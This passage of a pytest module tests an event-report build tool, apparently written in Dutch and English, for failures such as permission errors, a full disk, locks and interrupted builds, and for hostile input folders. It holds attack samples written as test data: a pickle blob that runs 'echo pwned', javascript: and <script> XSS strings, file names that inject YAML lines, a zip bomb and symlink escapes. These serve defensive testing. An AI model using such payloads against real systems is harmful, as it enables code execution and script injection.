    (project.root / "build").write_text("not a folder\n", encoding="utf-8")
    outcome = run(project.root, "build", "--event", SLUG)
    assert outcome.code == 1, outcome.text
    assert "Traceback" not in outcome.text
    assert "build: cannot be written" in outcome.err or "may not be written" in outcome.err
    assert project.state()[1] == before[1]


def test_a_build_folder_one_may_not_write_is_one_message(
    prepared: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    # A real permission failure: build/ made read-only, and the build run as a user the
    # mode applies to (root ignores it, so as root the command runs as 'nobody').
    import tempfile

    home = Path(tempfile.mkdtemp(prefix="eventreport-perm-"))
    try:
        shutil.copytree(prepared, home / "project", symlinks=True)
        project = Project(home / "project")
        before = project.state()
        for path in [home, *home.rglob("*")]:
            if not path.is_symlink():
                path.chmod(0o755 if path.is_dir() else 0o644)
        for folder in (project.root / "build", project.root / "build" / SLUG):
            folder.chmod(0o555)
        prefix: list[str] = []
        if os.geteuid() == 0:
            setpriv = shutil.which("setpriv")
            assert setpriv, "setpriv (util-linux) is needed to run the build as another user"
            prefix = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"]
        env = {k: v for k, v in os.environ.items() if not k.startswith("PYTEST")}
        done = subprocess.run(
            [*prefix, sys.executable, "-m", "invoke", "build", "--event", SLUG],
            cwd=project.root,
            capture_output=True,
            text=True,
            timeout=SECONDS,
            env={**env, "HOME": str(home), "PYTHONDONTWRITEBYTECODE": "1"},
            check=False,
        )
        assert done.returncode == 1, done.stdout + done.stderr
        assert "Traceback" not in done.stdout + done.stderr
        assert "may not be written (Permission denied)" in done.stderr
        assert "check the folder's permissions" in done.stderr
        assert project.state() == before
    finally:
        for path in [home, *home.rglob("*")]:
            if path.is_dir() and not path.is_symlink():
                path.chmod(0o755)
        shutil.rmtree(home, ignore_errors=True)


def test_a_publish_folder_that_cannot_be_written_is_one_message(project: Project) -> None:
    before = project.state()
    shutil.rmtree(project.root / "published")
    (project.root / "published").write_text("not a folder\n", encoding="utf-8")
    outcome = run(project.root, "publish", "--event", SLUG, "--force")
    assert outcome.code == 1, outcome.text
    assert "Traceback" not in outcome.text
    assert "published: cannot be written (File exists)" in outcome.err
    assert project.state()[0] == before[0]


def test_a_full_disk_keeps_the_old_build(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    # A full disk cannot be made on demand; the write that meets it is made to fail as the
    # system would, with ENOSPC, in the middle of writing the PDF.
    from eventreport import build as build_module
    from eventreport.workspace import OutputError

    before = project.state()

    def disk_full(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device", str(project.root / "build" / "x.pdf"))

    monkeypatch.setattr(build_module, "_write_pdf", disk_full)
    with pytest.raises(OutputError) as caught:
        # Without the cache: with it, this unchanged event would not be built at all.
        build_module.build(project.event, project.root / "build", cache=False)
    assert "the disk is full (No space left on device)" in caught.value.message
    assert project.state() == before
    assert not list((project.root / "build").glob(f".{SLUG}.*.partial"))
    assert caught.value.path == project.root / "build" / "x.pdf"


def test_a_named_pipe_or_a_link_loop_in_the_event_folder_does_not_hang(project: Project) -> None:
    # The build cache hashes the event folder to learn whether anything changed
    # (cache/digest.py): a pipe would block a reader forever, a loop would walk without end.
    os.mkfifo(project.event / "media" / "pijp")
    (project.event / "lus").symlink_to(project.event)
    project.session(textwrap.dedent(SESSION).replace("Tekst van de sessie.", "Nieuwe tekst."))
    outcome = run(project.root, "build", "--event", SLUG)
    assert outcome.code == 0, outcome.text
    assert outcome.seconds < SECONDS
    assert "Nieuwe tekst." in (project.root / "build" / SLUG / "index.html").read_text()
    again = run(project.root, "build", "--event", SLUG)
    assert "Nothing changed since the last build" in again.out, again.text


def test_crafted_cache_entries_are_never_used(project: Project) -> None:
    # build/ is the project's own, yet what lies in its cache is only ever data: each
    # entry is checked against its key and digests before use, never unpickled or run.
    cache = project.root / "build" / ".cache"
    entries = [p for p in cache.rglob("*.json") if "/deck/" in p.as_posix()]
    assert entries
    for entry in entries:
        data = json.loads(entry.read_text(encoding="utf-8"))
        data["payload"]["slides"][0]["title"] = OUTSIDE_TEXT  # the digest no longer fits
        entry.write_text(json.dumps(data), encoding="utf-8")
    for blob in (cache / "blobs").rglob("*"):
        if blob.is_file():
            blob.write_bytes(b"cos\nsystem\n(S'echo pwned'\ntR.")  # a pickle, never loaded
    project.session(textwrap.dedent(SESSION).replace("Tekst van de sessie.", "Nieuwe tekst."))
    outcome = run(project.root, "build", "--event", SLUG)
    assert outcome.code == 0, outcome.text
    built = (project.root / "build" / SLUG / "index.html").read_text(encoding="utf-8")
    assert OUTSIDE_TEXT not in built and "Eerste dia" in built
    assert "pwned" not in outcome.text


def test_a_second_build_while_one_runs_says_so(project: Project) -> None:
    before = project.state()
    lock = (project.root / "build" / f".{SLUG}.lock").open("a")
    try:
        fcntl.flock(lock, fcntl.LOCK_EX)
        outcome = run(project.root, "build", "--event", SLUG)
    finally:
        lock.close()
    refused(project, outcome, f"another build of {SLUG} is running", before=before)


def test_a_second_publish_while_one_runs_says_so(project: Project) -> None:
    before = project.state()
    lock = (project.root / "published" / f".{SLUG}.lock").open("a")
    try:
        fcntl.flock(lock, fcntl.LOCK_EX)
        outcome = run(project.root, "publish", "--event", SLUG, "--force")
    finally:
        lock.close()
    refused(project, outcome, f"another publish of {SLUG} is running", before=before)


def test_two_builds_at_once_end_cleanly(project: Project) -> None:
    from concurrent.futures import ThreadPoolExecutor

    before = project.state()
    with ThreadPoolExecutor(2) as pool:
        outcomes = list(
            pool.map(lambda _: run(project.root, "build", "--event", SLUG, timeout=120), [1, 2])
        )
    for outcome in outcomes:
        assert "Traceback" not in outcome.text
        assert outcome.code == 0 or f"another build of {SLUG} is running" in outcome.err
    assert any(o.code == 0 for o in outcomes)
    assert project.state() == before  # the same sources build the same bytes


def test_ctrl_c_stops_the_build_and_keeps_the_old_one(project: Project) -> None:
    before = project.state()
    # A changed session, so the build has work to do (unchanged, it would write nothing);
    # its deck comes from the build cache, so it is stopped while it writes the PDF.
    project.session(textwrap.dedent(SESSION).replace("Tekst van de sessie.", "Nieuwe tekst."))
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTEST")}
    child = subprocess.Popen(
        [sys.executable, "-m", "invoke", "build", "--event", SLUG],
        cwd=project.root,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**env, "PYTHONUNBUFFERED": "1"},
    )
    assert child.stdout is not None
    line = child.stdout.readline()
    while line and "writing the PDF" not in line:
        line = child.stdout.readline()
    assert line, "the build never reached the PDF"
    child.send_signal(signal.SIGINT)
    out, err = child.communicate(timeout=SECONDS)
    assert child.returncode == 1, out + err
    assert "Traceback" not in out + err
    assert "Stopped; build/ unchanged." in err
    assert project.state() == before
    assert not list((project.root / "build").glob(f".{SLUG}.*.partial"))


def _second_event(project: Project) -> None:
    shutil.copytree(project.event, project.root / "sources" / "tweede")


def test_approve_without_event_is_refused_when_there_are_several(project: Project) -> None:
    _second_event(project)
    outcome = run(project.root, "proofs", "--approve", "welkom", "--by", "Anna de Vries")
    assert outcome.code == 1, outcome.text
    assert "--approve is for one event: say which with --event" in outcome.err
    for slug in (SLUG, "tweede"):
        assert not (project.root / "sources" / slug / "proofs").exists()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("proofs", "--by", "Anna"), "--by has no effect with making proofs"),
        (("proofs", "--status", "--date", "2021-05-07"), "--date has no effect with --status"),
        (("proofs", "--status", "--send"), "--send has no effect with --status"),
        (("proofs", "--status", "--speaker", "anna"), "--speaker has no effect with --status"),
        (("proofs", "--dry-run"), "--dry-run goes with --send"),
        (("build", "--force"), "--force only applies with --final"),
    ],
)
def test_flags_without_effect_are_refused(
    project: Project, args: tuple[str, ...], message: str
) -> None:
    before = project.state()
    outcome = run(project.root, *args)
    refused(project, outcome, message, before=before)
    assert not (project.event / "proofs").exists()


def test_clean_keeps_the_publish_history(project: Project) -> None:
    published = project.root / "published" / SLUG
    first = (published / "manifest.json").read_bytes()
    assert run(project.root, "clean").code == 0
    assert not (project.root / "build").exists()
    assert (published / "manifest.json").read_bytes() == first
    project.session("Tekst van de sessie, aangepast.\n\n" + DOWNLOAD)
    again = run(project.root, "publish", "--event", SLUG, "--force", timeout=120)
    assert again.code == 0, again.text
    assert "Published version 2 (new version)" in again.out
    assert (published / "versions" / f"{SLUG}-v1.pdf").is_file()


def test_clean_keeps_a_publish_folder_inside_build(project: Project) -> None:
    (project.root / "invoke.yaml").write_text(
        "eventreport:\n  base_url: https://verslagen.example.org/\n  publish_dir: build/publish\n",
        encoding="utf-8",
    )
    assert run(project.root, "publish", "--event", SLUG, "--force", timeout=120).code == 0
    outcome = run(project.root, "clean")
    assert outcome.code == 0, outcome.text
    assert "Removed build/ but build/publish/" in outcome.out
    assert (project.root / "build" / "publish" / SLUG / "manifest.json").is_file()
    assert not (project.root / "build" / SLUG).exists()


_ENDLESS = (
    '{% extends "default:report.html" %}{% block body %}{% for i in range(100000) %}'
    "{% for j in range(100000) %}{% endfor %}{% endfor %}{% endblock %}"
)


def test_a_template_that_never_ends_is_stopped(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The limit is a minute; the mechanism is the same with two seconds.
    from eventreport import templating
    from eventreport.build import build
    from eventreport.errors import RenderError

    monkeypatch.setattr(templating, "TEMPLATE_SECONDS", 2)
    project.write("templates/report.html", _ENDLESS)
    before = project.state()
    started = time.perf_counter()
    with pytest.raises(RenderError) as caught:
        build(project.event, project.root / "build")
    assert time.perf_counter() - started < 10
    assert "rendering took more than 2 s" in caught.value.message
    assert caught.value.path == project.event.resolve() / "templates" / "report.html"
    assert project.state() == before


def test_a_check_meets_a_template_that_never_ends_once(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A check renders the page for screen and print; the time limit must not be met twice.
    from eventreport import templating
    from eventreport.check import check_event
    from eventreport.render import html

    monkeypatch.setattr(templating, "TEMPLATE_SECONDS", 2)
    rendered: list[str] = []
    render_page = html.render_page

    def counted(*args: Any, **kwargs: Any) -> str:
        rendered.append(args[2])
        return render_page(*args, **kwargs)

    # The reading imports it when it renders (reading.py): it finds this one.
    monkeypatch.setattr(html, "render_page", counted)
    project.write("templates/report.html", _ENDLESS)
    before = project.state()
    started = time.perf_counter()
    found = check_event(project.event)
    assert time.perf_counter() - started < 10
    assert rendered == ["screen"]  # stopped there: print is not tried after it
    (problem,) = found.problems
    assert "rendering took more than 2 s" in problem.error.message
    assert problem.error.path == project.event.resolve() / "templates" / "report.html"
    assert project.state() == before


# --- A folder to start an event from (invoke new --from; issue 14) -------------------------
#
# The folder is what arrived after a meeting: nothing in it is trusted. Each case fills a
# fresh folder and runs `invoke new` on it, within the same bounds of memory and time.
# "refused": exit 1 with the message and no event made. "drafted": exit 0, what cannot be
# used set aside with the reason, and the new event builds.

NEW = "2024-05-16-nieuw"
Filling = Callable[[Path, Path], None]  # (the folder, a place beside it) -> None
NEW_CASES: dict[str, tuple[Filling, str, tuple[str, ...]]] = {}


def new_case(outcome: str, *fragments: str) -> Callable[[Filling], Filling]:
    def register(filling: Filling) -> Filling:
        NEW_CASES[filling.__name__] = (filling, outcome, fragments)
        return filling

    return register


def _talk(folder: Path, name: str = "talk.pptx", title: str = "Eerste dia") -> Path:
    return make_pptx(folder / name, [SlideSpec(title, ["Een punt"])])


@new_case("refused", "talk.pptx: is a link to something outside the folder")
def new_file_is_a_link_outside(folder: Path, beside: Path) -> None:
    (folder / "talk.pptx").symlink_to(beside / "outside.txt")


@new_case("refused", "sprekers: is a link to something outside the folder")
def new_subfolder_is_a_link_outside(folder: Path, beside: Path) -> None:
    _talk(beside / "elders")
    (folder / "sprekers").symlink_to(beside / "elders")


@new_case("refused", "holds more than 500 files")
def new_folder_of_thousands(folder: Path, beside: Path) -> None:
    for n in range(600):
        (folder / f"{n}.txt").write_bytes(b"")


@new_case("refused", "levels deep")
def new_folder_nests_deep(folder: Path, beside: Path) -> None:
    deep = folder.joinpath(*["a"] * 8)
    deep.mkdir(parents=True)
    (deep / "x.md").write_text("x", encoding="utf-8")


@new_case("refused", "is not a folder")
def new_folder_is_a_file(folder: Path, beside: Path) -> None:
    shutil.rmtree(folder)
    folder.write_text("geen map", encoding="utf-8")


@new_case("drafted", "pijp.pptx: is not a regular file")
def new_named_pipe(folder: Path, beside: Path) -> None:
    _talk(folder)
    os.mkfifo(folder / "pijp.pptx")  # opened, it would wait forever


@new_case("drafted", "bom.pptx: ", "zip bomb")
def new_deck_zip_bomb(folder: Path, beside: Path) -> None:
    _talk(folder)
    _talk(folder, "bom.pptx")

    def inflate(members: dict[str, bytes]) -> None:
        members["ppt/slides/slide1.xml"] += b" " * (70 * 2**20)

    _rezip(folder / "bom.pptx", inflate)


@new_case("drafted", "groot.md: is larger than 4 MiB")
def new_huge_writeup(folder: Path, beside: Path) -> None:
    _talk(folder)
    (folder / "groot.md").write_text("Tekst. " * 700_000, encoding="utf-8")


@new_case("drafted", "oud.txt: not UTF-8 text")
def new_writeup_not_utf8(folder: Path, beside: Path) -> None:
    (folder / "oud.txt").write_bytes("Café, één verslag".encode("cp1252"))


@new_case("drafted", "kwaad.md is kept in notes/kwaad.md", "javascript:alert(1)")
def new_writeup_with_script_link(folder: Path, beside: Path) -> None:
    _talk(folder)
    (folder / "kwaad.md").write_text("Klik [hier](javascript:alert(1)).\n", encoding="utf-8")


@new_case("drafted")
def new_crafted_file_names(folder: Path, beside: Path) -> None:
    for name in [
        "regel\nspeakers: {x: {name: Kwaad}}\n.pptx",
        "```\n# kop.pptx",
        "[klik](javascript:alert(1)).pptx",
        "\u202eexe.pptx",
        "'\"; title: x.pptx",
    ]:
        _talk(folder, name, "Een dia")


@new_case("drafted")
def new_crafted_slide_title(folder: Path, beside: Path) -> None:
    _talk(
        folder,
        title='Titel"\nspeakers: {x: {name: Kwaad}}\n```\n<script>alert(1)</script> # \u202e',
    )


@pytest.mark.parametrize("name", sorted(NEW_CASES))
def test_new_from_a_hostile_folder(tmp_path: Path, name: str) -> None:
    filling, expected, fragments = NEW_CASES[name]
    project = tmp_path / "project"
    project.mkdir()
    shutil.copy(ROOT / "tasks.py", project / "tasks.py")
    beside = tmp_path
    (beside / "outside.txt").write_text(OUTSIDE_TEXT, encoding="utf-8")
    folder = tmp_path / "map"
    folder.mkdir()
    filling(folder, beside)
    outcome = run(project, "new", NEW, "--from", str(folder))
    assert "Traceback" not in outcome.text
    assert OUTSIDE_TEXT not in outcome.text
    assert outcome.peak_mib < PEAK_MIB, outcome.peak_mib
    assert outcome.seconds < SECONDS
    for fragment in fragments:
        assert fragment in (outcome.err if expected == "refused" else outcome.out), (
            fragment,
            outcome.text,
        )
    sources = project / "sources"
    leftovers = [p.name for p in sources.iterdir()] if sources.is_dir() else []
    if expected == "refused":
        assert outcome.code == 1, outcome.text
        assert leftovers == []
        return
    assert outcome.code == 0, outcome.text
    assert leftovers == [NEW]
    built = run(project, "build", "--event", NEW, timeout=120)
    assert built.code == 0, built.text
    page = (project / "build" / NEW / "index.html").read_text(encoding="utf-8")
    assert "alert(1)" not in page.replace("&lt;script&gt;alert(1)&lt;/script&gt;", "")
    assert "\u202e" not in page
    # Text from the folder stays text: nothing it holds became a line of event.yaml.
    from eventreport.manifest import load_event

    event = load_event(project / "sources" / NEW)
    assert event.speakers == {} and all(s.speakers == () for s in event.sessions)
